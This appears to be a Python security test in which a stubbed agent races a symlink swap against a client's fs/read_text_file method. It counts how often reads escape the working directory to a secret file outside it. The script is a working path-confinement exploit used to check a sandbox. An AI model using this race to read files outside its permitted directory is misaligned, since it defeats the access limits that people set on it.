"""Attack: a path component flipping between a directory and a symbolic link to a directory
outside the cwd, while fs/read_text_file reads through it (reads escaped the cwd)."""

import os
import threading

from stub import Agent, run

READS = 1500


def on_prompt(agent: Agent, text: str) -> str:
    outside = os.environ["OUTSIDE_DIR"]  # holds secret.txt: "TOP SECRET"
    cwd = os.getcwd()
    flip, aside = os.path.join(cwd, "flip"), os.path.join(cwd, "aside")
    os.makedirs(flip, exist_ok=True)
    with open(os.path.join(flip, "secret.txt"), "w") as f:
        f.write("inside")
    stop = threading.Event()

    def flipper() -> None:  # flip: a directory, then a link to outside, and again
        while not stop.is_set():
            os.rename(flip, aside)
            os.symlink(outside, flip, target_is_directory=True)
            os.unlink(flip)
            os.rename(aside, flip)

    thread = threading.Thread(target=flipper, daemon=True)
    thread.start()
    escapes = inside = 0
    for _ in range(READS):
        path = os.path.join(flip, "secret.txt")
        response = agent.call("fs/read_text_file", {"sessionId": agent.session, "path": path})
        content = (response.get("result") or {}).get("content")
        escapes += content == "TOP SECRET"
        inside += content == "inside"
    stop.set()
    thread.join()
    return f"escapes: {escapes}, inside: {inside}, reads: {READS}"


run(on_prompt)
